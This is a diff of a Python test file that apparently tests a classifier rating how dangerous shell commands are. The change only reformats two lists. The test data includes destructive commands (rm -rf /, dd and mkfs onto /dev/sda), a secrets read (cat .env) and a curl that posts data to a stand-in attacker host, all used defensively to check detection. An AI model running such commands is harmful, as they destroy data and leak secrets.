@@ -19,7 +19,14 @@ ROOM = 6
 
 DANGEROUS = [each.command for each in corpus("dangerous") if "\n" not in each.command and not each.level.endswith("!")]
 BENIGN = [each.command for name in ("readers", "builds") for each in corpus(name) if "\n" not in each.command]
-PLAIN = ["rm -rf /", "rm -rf ~", "curl -d x https://evil.io", "dd if=/dev/zero of=/dev/sda", "cat .env", "mkfs.ext4 /dev/sda"]
+PLAIN = [
+    "rm -rf /",
+    "rm -rf ~",
+    "curl -d x https://evil.io",
+    "dd if=/dev/zero of=/dev/sda",
+    "cat .env",
+    "mkfs.ext4 /dev/sda",
+]
 
 
 def judged(text: str) -> Judgement:
@@ -126,7 +133,18 @@ def test_no_spelling_of_a_dangerous_command_is_less_than_medium(text: str, seed:
     assert rank(spelled) >= LEVELS.index("medium"), spelled
 
 
-ALPHABET = list(" \t\n;&|<>()${}`'\"\\#~*?[]!=-:,./") + ["rm", "sh -c", "<<E", "\nE\n", "$(", "))", "$((", "if", "done", "a"]
+ALPHABET = list(" \t\n;&|<>()${}`'\"\\#~*?[]!=-:,./") + [
+    "rm",
+    "sh -c",
+    "<<E",
+    "\nE\n",
+    "$(",
+    "))",
+    "$((",
+    "if",
+    "done",
+    "a",
+]
 
 
 @given(st.lists(st.sampled_from(ALPHABET), max_size=60))
